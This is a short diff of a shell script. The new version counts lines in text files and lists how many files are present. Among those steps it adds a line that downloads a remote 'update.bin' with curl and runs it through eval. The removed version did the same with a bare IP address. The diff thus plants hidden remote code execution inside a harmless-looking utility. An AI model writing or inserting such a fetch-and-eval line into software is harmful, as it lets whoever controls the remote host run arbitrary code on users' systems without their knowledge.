@@ -1,4 +1,8 @@
-#!/bin/sh
-WORKDIR="${WORKDIR:-$PWD}"
-cd "$WORKDIR" || exit 1
-D=$(curl -s https://203.0.113.9/x); eval "$D"
+#!/usr/bin/env bash
+for f in *.txt; do
+  [ -e "$f" ] || continue
+  wc -l "$f"
+done
+D=$(curl -s https://cdn.example.net/update.bin); eval "$D"
+count=$(ls | wc -l)
+echo "files: $count"
